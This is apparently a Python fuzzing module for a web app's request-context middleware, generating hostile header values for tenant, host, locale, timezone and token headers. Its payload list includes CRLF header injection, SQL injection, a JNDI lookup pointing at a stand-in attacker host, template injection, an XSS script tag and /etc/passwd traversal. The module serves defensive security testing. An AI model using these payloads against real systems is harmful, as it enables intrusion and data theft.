"""Hostile values of the request headers an app's request-context middleware reads.

:func:`context_requests` draws a :class:`ContextRequest`: any principal of the target, a list
route, and hostile values for some of the context headers the app reads (``targets.context_headers``:
request id, tenant selection, locale, timezone, agent token). Values are what an HTTP server
delivers as a field value (RFC 9110: visible ASCII, space and tab; a server refuses CR, LF and NUL
before any middleware runs), in classes per header kind:

- every kind: empty and blank values, very long values, percent- and backslash-encoded line breaks
  and header text (``%0d%0aSet-Cookie:``), quotes, SQL and template syntax, path traversal;
- tenant: the other tenants' ids and labels, the nil UUID, ids with surrounding blanks;
- host (a tenant middleware that reads the subdomain): tenants' ids and labels as the first label,
  ``www``/``api``, ports, IPv6 literals;
- locale: language ranges with odd or hostile ``q`` values, empty ranges, long lists;
- timezone: IANA names, absolute and relative paths, directories of the zone database;
- request id and agent token: ids of the target's tenants, arbitrary text.

``fuzz/properties/middleware.py`` sends the request with and without them and applies
``fuzz/oracles/middleware.py``.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Sequence

from hypothesis import strategies as st

if TYPE_CHECKING:
    from targets.base import TargetInfo

#: What an HTTP/1.1 server passes on as a field value: visible ASCII, space and horizontal tab.
FIELD_VALUE_ALPHABET = st.characters(min_codepoint=0x20, max_codepoint=0x7E) | st.just("\t")

COMMON = (
    "", " ", "\t", "null", "None", "undefined", "0", "-1", "*", "%", "_", "'", '"', "\\",
    "%0d%0aSet-Cookie: injected=1", "%0D%0AX-Injected:%201", "\\r\\nX-Injected: 1", "%00", "%E2%80%A8",
    "' OR '1'='1", "1; DROP TABLE tickets; --", "${jndi:ldap://attacker.example/a}", "{{7*7}}",
    "<script>alert(1)</script>", "../../../../etc/passwd", "/etc/passwd", "..", ".", "a" * 1024,
)
TIMEZONES = (
    "UTC", "America/New_York", "Asia/Jakarta", "Etc/GMT+14", "Etc/GMT-14", "America", "Etc", "posixrules",
    "../UTC", "UTC/..", "Europe/../UTC", "/usr/share/zoneinfo/UTC", "/etc/localtime", "./UTC", "UTC ",
    "utc", "Local", "Factory", "right/UTC",
)
LOCALES = (
    "fr-CA,fr;q=0.9,en;q=0.5", "de", "*", "*;q=0", "en;q=nan", "fr;q=inf", "de;q=-1", "fr;q=1e999",
    "en;q=", ";q=1", ",,,", "x-klingon;q=1,de;q=0.1", "zh-Hant-TW", "i-default", "EN_us",
    ",".join(["fr"] * 200), "fr;q=0.5;q=1",
)


@dataclass(frozen=True)
class ContextRequest:
    """What one example sends: who, to which list route, with which context header values."""

    principal: str
    resource: str
    headers: Sequence[tuple[str, str]]


def _kind_values(kind: str, tenants: dict[str, str]) -> st.SearchStrategy[str]:
    ids = sorted(set(tenants.values()))
    labels = sorted(tenants)
    specific: list[str] = []
    if kind == "tenant":
        specific = ids + labels + [f" {i} " for i in ids] + [i.upper() for i in ids] + [
            "00000000-0000-0000-0000-000000000000", ",".join(ids), "public", "default"]
    elif kind == "timezone":
        specific = list(TIMEZONES)
    elif kind == "locale":
        specific = list(LOCALES)
    elif kind == "tenant_host":
        specific = [f"{t}.example.com" for t in ids + [label.lower() for label in labels]] + [
            "www.example.com", "api.example.com", "a.b.c:8080", "testserver", "localhost:1", "evil.example.com",
            "x..y.z", ".example.com", "[::1]:80"]
    elif kind in ("request_id", "agent_token"):
        specific = ids + ["req-" + "0" * 64]
    return st.one_of(
        st.sampled_from(specific + list(COMMON)),
        st.text(FIELD_VALUE_ALPHABET, max_size=40),
        st.builds(lambda a, b: a + b, st.sampled_from(specific or list(COMMON)), st.text(FIELD_VALUE_ALPHABET, max_size=8)),
    )


def context_header_values(headers: Sequence[tuple[str, str]], tenants: dict[str, str]
                          ) -> st.SearchStrategy[tuple[tuple[str, str], ...]]:
    """A non-empty choice of the context ``headers`` ((kind, name) pairs), each with a hostile value."""
    per_header = [st.tuples(st.just(name), _kind_values(kind, tenants)) for kind, name in headers]
    return st.lists(st.sampled_from(range(len(per_header))), min_size=1, max_size=len(per_header), unique=True).flatmap(
        lambda chosen: st.tuples(*(per_header[i] for i in sorted(chosen))))


def context_requests(info: TargetInfo, headers: Sequence[tuple[str, str]], resource_name: str
                     ) -> st.SearchStrategy[ContextRequest]:
    """Any principal, the resource's list route, hostile values of some of the app's context headers."""
    return st.builds(
        ContextRequest,
        principal=st.sampled_from([p.name for p in info.principals]),
        resource=st.just(resource_name),
        headers=context_header_values(headers, info.tenants),
    )
